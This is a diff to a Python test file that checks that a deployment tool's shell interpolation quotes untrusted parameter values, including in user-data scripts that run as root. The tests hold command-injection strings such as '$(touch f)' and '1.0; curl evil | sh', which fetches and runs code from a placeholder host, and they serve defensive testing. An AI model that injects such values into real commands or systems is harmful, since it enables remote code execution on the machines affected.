@@ -13,6 +13,7 @@ from hypothesis import strategies as st
 
 from gennaker.spec.expressions import ExpressionError
 from gennaker.spec.shell import interpolate
+from gennaker.stages import default_registry
 from tests.core.test_cli import gk
 
 HOSTILE = ["1.0; id > f", "$(touch f)", "a'b\"c\\d`touch f`*", "x\ntouch f"]
@@ -135,3 +136,15 @@ def test_values_that_cannot_be_quoted_are_refused(template: str) -> None:
 def test_a_whole_list_value_stays_a_list() -> None:
     assert interpolate("${trigger.params.x}", {"trigger": {"params": {"x": ["ls", "-l"]}}}) == ["ls", "-l"]
     assert interpolate(" ${trigger.params.x} ", {"trigger": {"params": {"x": "a b"}}}) == " 'a b' "
+
+
+@pytest.mark.parametrize("stage_type", ["bake", "deploy"])
+def test_user_data_script_is_quoted_like_a_command(stage_type: str) -> None:
+    # user data that is a shell script runs as root on the instance: the same hazard as a command
+    stype = default_registry()[stage_type]
+    scope = {"trigger": {"params": {"v": "1.0; curl evil | sh"}}}
+    script = stype.resolve_config({"user_data": "#!/bin/bash\necho ${trigger.params.v} > /etc/version"}, scope)
+    assert script["user_data"] == "#!/bin/bash\necho '1.0; curl evil | sh' > /etc/version"
+    # anything else (cloud-config) is text, resolved as before
+    config = stype.resolve_config({"user_data": "#cloud-config\nhostname: ${trigger.params.v}"}, scope)
+    assert config["user_data"] == "#cloud-config\nhostname: 1.0; curl evil | sh"
